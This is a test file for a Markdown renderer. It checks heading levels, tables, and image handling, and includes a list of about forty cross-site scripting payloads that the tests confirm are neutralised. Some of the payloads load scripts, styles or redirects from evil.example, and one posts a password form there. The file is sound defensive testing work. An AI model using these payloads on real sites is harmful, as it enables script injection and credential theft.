import { describe, expect, test } from "vitest";
import { renderMarkdown } from "./markdown.ts";

describe("what is written", () => {
  test("headings follow the page's title, and skip no level", () => {
    const levels = (text: string) =>
      [...renderMarkdown(text).matchAll(/<h(\d)>/g)].map(([, level]) => Number(level));
    expect(levels("# a\n## b\n# c")).toEqual([2, 3, 2]);
    expect(levels("### a\n##### b\n###### c\n### d")).toEqual([2, 3, 4, 2]);
    expect(levels("###### a\n# b")).toEqual([2, 2]);
    expect(levels("> # a\n\n- ## b")).toEqual([2, 3]);
    expect(levels("no heading")).toEqual([]);
  });

  test("Markdown becomes HTML", () => {
    expect(renderMarkdown("**bold** [there](/contact)")).toBe(
      '<p><strong>bold</strong> <a href="/contact">there</a></p>\n',
    );
  });

  test("tables and code can be scrolled by keyboard", () => {
    expect(renderMarkdown("| a | b |\n|---|---|\n| 1 | 2 |")).toMatch(
      /^<div class="table" tabindex="0"><table>/,
    );
    expect(renderMarkdown("```js\nconst a = '<b>';\n```")).toContain('<pre tabindex="0"><code>const a');
  });

  test("pictures of the site stay; others become links to them", () => {
    expect(renderMarkdown("![Our shop](/media/1/shop.jpg)")).toContain(
      '<img src="/media/1/shop.jpg" alt="Our shop" loading="lazy" />',
    );
    const elsewhere = renderMarkdown("![Their shop](https://elsewhere.example/shop.jpg)");
    expect(elsewhere).not.toContain("<img");
    expect(elsewhere).toContain('href="https://elsewhere.example/shop.jpg"');
    expect(elsewhere).toContain(">Their shop</a>");
  });
});

describe("what could harm", () => {
  const attacks = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="/media/1/a.png" onload="alert(1)">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](\u0001javascript:alert(1))",
    '[click](/x "<table><pre>")',
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="x" onclick="alert(1)">x</a>',
    "![x](javascript:alert(1))",
    '![x](/media/1/a.png"onerror="alert(1))',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    '<p style="position:fixed;inset:0">cover</p>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<video src="https://evil.example/x.mp4" onerror=alert(1)></video>',
    '<audio src=/media/../admin autoplay onplay="alert(1)"></audio>',
    "<details open ontoggle=alert(1)>x</details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    '```"><script>alert(1)</script>\nx\n```',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    '<a name="id" id="x" class="button primary">x</a>',
  ];

  test.each(attacks)("%s does nothing", (attack) => {
    for (const text of [attack, `- ${attack}`, `> ${attack}`, `a ${attack} b`]) {
      const tags =
        renderMarkdown(text)
          .replaceAll('<div class="table" tabindex="0">', "<div>")
          .match(/<[^>]*>/g) ?? [];
      for (const tag of tags) {
        expect(tag).toMatch(/^<\/?[a-z][a-z0-9]*( [a-z]+="[^"]*")* ?\/?>$/);
        expect(tag).not.toMatch(
          /^<\/?(script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|template|textarea)/,
        );
        expect(tag).not.toMatch(/ (on\w+|style|class|id|srcdoc|action|formaction|autoplay)=/);
        for (const [, address] of tag.matchAll(/ (?:href|src)="([^"]*)"/g)) {
          expect(address).not.toMatch(/^[^/#?]*(javascript|vbscript|data)[^/]*:/i);
        }
        if (/^<(img|audio|video)/.test(tag)) expect(tag).not.toMatch(/src="(?!\/media\/)/);
      }
    }
  });
});
